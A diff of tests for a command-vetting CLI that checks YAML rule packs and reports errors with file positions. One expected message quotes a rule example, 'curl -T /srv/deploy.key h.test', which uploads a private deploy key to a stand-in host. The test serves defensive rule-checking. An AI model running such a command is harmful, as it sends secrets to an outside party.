@@ -64,7 +64,7 @@ describe("a pack of one's own", () => {
   test("it and its examples are checked", async () => {
     expect(await cli(["rules", "check", path("house.yaml")])).toEqual({
       code: 0,
-      out: "1 file, 3 examples: nothing wrong\n",
+      out: "1 file: nothing wrong\n",
       err: "",
     });
   });
@@ -86,7 +86,11 @@ describe("what is wrong with one is said with its place, exit 2", () => {
       ["check", "ls", "--pack", "typo.yaml"],
       [expect.stringMatching(/^typo\.yaml:\d+:\d+: .* \(and \d more; see argvet rules check\)$/)],
     ],
-    ["an example that does otherwise", ["rules", "check", "wrong.yaml"], ["wrong.yaml:16:1: house/deploy-key fires"]],
+    [
+      "an example that does otherwise",
+      ["rules", "check", "wrong.yaml"],
+      ["wrong.yaml:16:1: no_match example of house/deploy-key: curl -T /srv/deploy.key h.test matches"],
+    ],
     ["a file that is not there", ["check", "ls", "--pack", "none.yaml"], ["none.yaml: no such file"]],
     ["a profile that is none", ["check", "ls", "--profile", "strcit"], ['--profile strcit: did you mean "strict"?']],
   ])("%s", async (_, argv, problems) => {
